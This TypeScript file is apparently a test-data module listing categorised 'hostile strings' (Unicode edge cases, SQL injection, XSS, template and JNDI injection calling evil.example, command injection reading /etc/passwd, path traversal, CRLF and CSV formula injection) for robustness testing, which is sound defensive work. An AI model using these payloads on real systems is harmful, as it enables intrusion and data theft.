/** Repeats a text up to a length. */
const repeatToLength = (unit: string, length: number): string =>
  unit.repeat(Math.ceil(length / unit.length)).slice(0, length)

/** Splits at broken bars, which no text contains. */
export const splitSamples = (...lines: readonly string[]): readonly string[] =>
  lines.flatMap((line) => line.split('¦'))

/** Texts that break careless programs, by category. Each occurs once. */
export const hostileStrings: Readonly<Record<string, readonly string[]>> = {
  'nothing to see': splitSamples(
    '¦ ¦   ¦\t¦\n¦\r\n¦\u00a0¦\u2003¦\u3000¦\u200b¦\u200b\u200b\u200b¦\u2060¦\ufeff¦\u00ad¦\u034f',
    '\u061c¦\u115f¦\u1160¦\u180e¦\u2800¦\u3164¦\uffa0¦\u{e0001}¦\u{e0020}\u{e007f}',
  ),
  'control characters': splitSamples(
    '\u0000¦a\u0000b¦Ada\u0000¦\u0001¦\u0007¦\u0008\u0008\u0008¦\u000b\u000c¦\u001b[31mred\u001b[0m',
    '\u001b]0;title\u0007¦\u007f¦\u0085¦\u009b31m¦a\rb¦a\nb¦a\tb¦\u0003\u0004',
  ),
  'reading direction': splitSamples(
    '\u200e¦\u200f¦\u202a¦\u202egnp.exe¦user\u202etxt.exe¦\u202b\u202c¦\u2066a\u2069',
    '\u2067שלום\u2069¦مرحبا Ada¦שלום (Ada)¦\u202e\u202e\u202e¦a\u2028b¦a\u2029b',
  ),
  'halves of signs': splitSamples(
    '\ud800¦\udfff¦a\ud83d¦\ude00b¦\udc00\ud800¦Ada \ud83d\u{1f600}¦\udbff¦\ud800\u0000',
  ),
  'ends of the alphabet': splitSamples(
    '\ufffd¦\uffff¦\ufffe¦\ufdd0¦\u{10ffff}¦\u{10fffe}¦\ue000¦\u{f0000}¦\u{1fffe}',
  ),
  emoji: splitSamples(
    '\u{1f600}¦\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
    '\u{1f469}\u{1f3fd}\u200d❤\ufe0f\u200d\u{1f468}\u{1f3fb}¦\u{1f1fa}\u{1f1f8}',
    '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}¦1\ufe0f\u20e3¦❤\ufe0f',
    '\u{1f3f3}\ufe0f\u200d\u{1f308}¦\u{1fae0}¦\u{1f44d}\u{1f3ff}¦\u200d\u200d¦\ufe0f',
  ),
  'forms of the same letter': splitSamples(
    'Zoë¦Zoe\u0308¦\u212b¦A\u030a¦ﬁ¦\u1e9b\u0323¦ﬀ¦Ⅷ¦①¦ＡＤＡ¦\u0344¦각¦각¦e\u0301\u0302\u0303\u0304',
    'Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0321l\u0321g\u0322o\u0321',
  ),
  'letters that change with case': splitSamples('İstanbul¦ıI¦ß¦ẞ¦ΌΣΟΣ¦ǅ¦ŉ¦ﬃ¦K¦ſ'),
  scripts: splitSamples(
    "Ягода¦Ωμέγα¦山田太郎¦김하늘¦नमस्ते¦ไทย¦தமிழ்¦አማርኛ¦ᏣᎳᎩ¦𝒜𝒹𝒶¦𐍈¦নাম¦ᠮᠣᠩᠭᠣᠯ¦O'Neill¦Núñez-Łukasz",
    'D\u2019Arcy',
  ),
  'statements of a database': splitSamples(
    "' or '1'='1¦'; drop table members; --¦\" or \"\"=\"¦1' or 1=1#¦') or ('1'='1",
    "' union select null,null--¦1; select pg_sleep(0)¦admin'--¦\\¦\\'¦$1¦$$¦:name¦?¦E'\\x27'¦%",
    "_¦%_%¦'||'¦/*¦*/¦--¦;¦`¦0x27",
  ),
  'pages and scripts': splitSamples(
    '<script>alert(1)</script>¦<img src=x onerror=alert(1)>¦"><svg onload=alert(1)>¦\'"><b>¦<!--',
    '-->¦]]>¦<![CDATA[x]]>¦</title><script>¦<a href="javascript:alert(1)">x</a>¦javascript:alert(1)',
    'data:text/html,<b>x¦&lt;b&gt;¦&amp;amp;¦&#0;¦&#x202e;¦<plaintext>',
    '<style>*{display:none}</style>¦<iframe src=//evil.example>¦<script>¦＜script＞¦<?php echo 1 ?>',
  ),
  'words of templates and languages': splitSamples(
    '{{7*7}}¦${7*7}¦#{7*7}¦<%= 7*7 %>¦{%raw%}¦[[7*7]]¦${jndi:ldap://evil.example/a}¦%{7*7}',
    '__proto__¦constructor¦prototype¦toString¦hasOwnProperty¦[object Object]¦undefined¦null¦NaN',
    'true¦false¦nil¦None¦()',
  ),
  'commands and paths': splitSamples(
    '; ls¦| cat /etc/passwd¦$(id)¦`id`¦&& true¦../../etc/passwd¦..\\..\\boot.ini¦/etc/passwd',
    'C:\\nul¦file:///etc/passwd¦%2e%2e%2f¦..%c0%af¦con¦//evil.example¦https://evil.example/',
    'http://[::1]/¦.¦..¦~¦%00¦%0d%0a',
  ),
  'lines of protocols': splitSamples(
    '\r\nSet-Cookie: a=b¦a\r\nBcc: x@evil.example¦x\n.\nQUIT¦a%0d%0aX: y¦BEGIN:VEVENT\r\n',
    '=?utf-8?B?YQ==?=¦=1+1¦@SUM(1)¦+1|cmd¦-1+1',
  ),
  'numbers, days and JSON as text': splitSamples(
    '0¦-1¦1e309¦0x1F¦9007199254740993¦١٢٣¦1,000¦1.5¦2026-02-30¦02/30/2026¦0000-00-00¦{}¦[]¦{"a":1}',
    '"a"¦{"$ne":null}¦[1,2¦\\u0000¦\\ud800¦{"__proto__":{}}',
  ),
  lengths: [
    'x',
    repeatToLength('x', 199),
    repeatToLength('x', 201),
    repeatToLength('x', 1_001),
    repeatToLength('x', 20_000),
    repeatToLength('é', 300),
    repeatToLength('\u{1f600}', 400),
    repeatToLength('e\u0301', 600),
    repeatToLength('\u{1f468}\u200d', 300),
    repeatToLength(' x', 5_000),
    repeatToLength('a\n', 2_000),
    repeatToLength('<', 3_000),
    repeatToLength('"', 3_000),
    repeatToLength('\\', 3_000),
    repeatToLength('(', 2_000),
    repeatToLength('0', 400),
  ],
}

/** All texts, in order. */
export const allHostileStrings: readonly string[] = Object.values(hostileStrings).flat()
